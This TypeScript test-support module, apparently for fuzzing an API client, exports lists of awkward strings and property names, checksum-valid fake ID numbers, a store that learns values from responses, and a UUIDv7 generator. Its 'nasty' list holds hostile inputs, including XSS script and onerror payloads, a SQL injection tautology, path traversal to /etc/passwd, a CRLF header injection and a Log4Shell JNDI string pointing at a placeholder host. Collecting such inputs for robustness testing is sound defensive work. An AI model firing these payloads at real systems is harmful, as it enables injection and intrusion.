import type { Chance } from './chance.ts';

/** Stands in every text that a call may hold: in a problem or a log it has no business. */
export const canary = 'kanarie';

/** Texts that break readers, writers, pages and logs. */
export const nasty: readonly string[] = [
  '',
  ' ',
  '\0',
  `${canary}\0${canary}`,
  `${canary}\u202E\u2066gnp`,
  `${canary} \uD800`,
  `\uDFFF${canary}`,
  '\uFFFE\uFFFF',
  '\uFEFFbom',
  '‮‭‏',
  'e\u0301'.repeat(200),
  '𝕜𝕒𝕟𝕒𝕣𝕚𝕖 👩‍👩‍👧‍👦',
  `${canary}\r\nX-Injected: yes`,
  `<script>alert('${canary}')</script>`,
  `"><img src=x onerror=alert(1)>${canary}`,
  `${canary}' OR '1'='1`,
  '../../../../etc/passwd',
  '..\\..\\windows',
  '%2e%2e%2f%00',
  '${jndi:ldap://voorbeeld.example/a}',
  '{{7*7}}${7*7}#{7*7}',
  '__proto__',
  'constructor',
  'hasOwnProperty',
  'toString',
  'undefined',
  'NaN',
  '-0',
  '1e309',
  '9007199254740993',
  '99999999999999999999999999',
  '0x10',
  '2022-02-30',
  '2022-03-27T02:30',
  '2022-10-30T02:30',
  '9999-12-31T23:59:59.999Z',
  '-271821-04-20T00:00:00.000Z',
  '0000-00-00',
  '2021-2099',
  '２０２１-２０２２',
  'x'.repeat(5000),
  `${canary} `.repeat(3000),
];

/** Names that objects of a language have by themselves, and others that no schema knows. */
export const strangeNames: readonly string[] = [
  'onbekend',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  '',
  ' ',
  '$ref',
  '999990019',
  `${canary} 12345`,
  'a/b~c',
  'x'.repeat(300),
  '\0',
  '\uD800',
];

/** Numbers for tests begin with 99999 and pass the 11-test: nobody has one. In order, the first is 999 990 019. */
export const testNumbers: readonly string[] = (() => {
  const passes = (number: string): boolean =>
    Array.from(number).reduce((sum, digit, at) => sum + Number(digit) * (at === 8 ? -1 : 9 - at), 0) % 11 ===
    0;
  return Array.from({ length: 10_000 }, (_, last) => `99999${String(last).padStart(4, '0')}`).filter(passes);
})();

/**
 * What a caller knows: values that fit a place by its name, and else by its form. What answers told is added, so that
 * later calls name what is really there.
 */
export interface Knowledge {
  /** Values that were given or seen under a name. */
  byName(name: string): readonly unknown[];
  /** Texts that may fit a pattern. */
  readonly words: readonly string[];
  /** Takes over what an answer told. */
  learn(json: unknown): void;
}

const most = 30;

/** @param given values by name that are never forgotten @param closed names that answers must not add to */
export const knowledgeOf = (
  given: Readonly<Record<string, readonly unknown[]>>,
  words: readonly string[],
  closed: readonly string[] = [],
): Knowledge => {
  const seen = new Map<string, unknown[]>();
  const note = (name: string, value: unknown): void => {
    const values = seen.get(name) ?? [];
    if (values.includes(value)) return;
    seen.set(name, [...values, value].slice(-most));
  };
  const learn = (json: unknown): void => {
    if (typeof json !== 'object' || json === null) return;
    for (const [name, value] of Object.entries(json)) {
      if (typeof value === 'object') {
        learn(value);
        if (name === 'calendar') note(name, value);
      } else if (!closed.includes(name)) note(name === 'nextCursor' ? 'cursor' : name, value);
    }
  };
  return {
    words,
    learn,
    byName: (name) => [...(given[name] ?? []), ...(seen.get(name) ?? [])],
  };
};

/** A UUIDv7 by chance, of the spring of 2022. */
export const uuidOf = (chance: Chance): string => {
  const hex = chance.bytes(16).toString('hex');
  const variant = chance.pick(['8', '9', 'a', 'b']);
  return `017fe0${hex.slice(0, 2)}-${hex.slice(2, 6)}-7${hex.slice(6, 9)}-${variant}${hex.slice(9, 12)}-${hex.slice(12, 24)}`;
};
